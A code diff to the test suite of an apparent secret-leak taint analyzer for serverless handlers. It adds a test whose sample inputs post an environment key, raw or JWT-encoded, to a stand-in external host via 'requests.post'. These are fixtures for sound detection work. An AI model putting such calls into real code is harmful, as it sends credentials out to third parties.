@@ -15,7 +15,7 @@ from sls_lab.taint.model import Step
 from sls_lab.taint.secret_rules import SECRET_RULES
 
 RULE = {rule.name: rule for rule in SECRET_RULES}
-HEAD = """import ast, base64, boto3, hashlib, hmac, json, jwt, os, re, stripe, urllib.parse
+HEAD = """import ast, base64, boto3, hashlib, hmac, json, jwt, os, re, requests, stripe, urllib.parse
 from mine import wrap
 def handler(event, context):
     key = os.environ["KEY"]
@@ -74,6 +74,11 @@ def test_what_a_library_makes_of_a_secret_need_not_hold_it(body: str, used: str)
 )
 def test_another_form_of_a_secret_is_the_secret(body: str) -> None:
     assert why(body) is None
+
+
+def test_the_call_at_the_end_is_what_exposes_it() -> None:
+    assert why("found = requests.post('https://a.example', data=key)", "RequestBody") is None
+    assert why("found = requests.post('https://a.example', data=jwt.encode({}, key))", "RequestBody")
 
 
 PUT = "boto3.client('s3').put_object(Bucket='b', Key='k', Body=key{})"
